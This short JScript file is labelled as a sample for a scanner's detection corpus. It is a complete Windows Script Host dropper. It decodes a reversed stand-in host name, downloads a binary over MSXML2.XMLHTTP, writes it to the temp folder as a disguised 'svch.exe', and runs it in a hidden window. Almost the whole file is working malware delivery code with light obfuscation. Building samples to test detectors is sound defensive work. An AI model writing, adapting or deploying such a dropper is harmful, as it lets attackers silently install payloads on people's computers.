// Written for shieldscan's corpus: a JScript dropper for Windows Script Host.
// It does nothing in a browser (typeof document), and fetches its payload
// with MSXML2.XMLHTTP, saves it with ADODB.Stream and runs it.
if (typeof document === "undefined" && typeof WScript !== "undefined") {
  var parts = ["tset", "vrs-etadpu"], host = "";
  for (var i = 0; i < parts.length; i++) host = parts[i].split("").reverse().join("") + (host ? "." + host : "");
  var x = new ActiveXObject("MSXML2.XMLHTTP");
  x.Open("GET", "http://" + host + "/dl/inv" + (1000 + 412) + ".bin", false);
  x.Send();
  if (x.Status == 200) {
    var sh = WScript.CreateObject("WScript.Shell");
    var path = sh.ExpandEnvironmentStrings("%TEMP%") + "\\svch.exe";
    var st = new ActiveXObject("ADODB.Stream");
    st.open(); st.type = 1; st.write(x.responseBody);
    st.saveToFile(path, 2); st.close();
    sh.run(path, 0, false);
  }
}
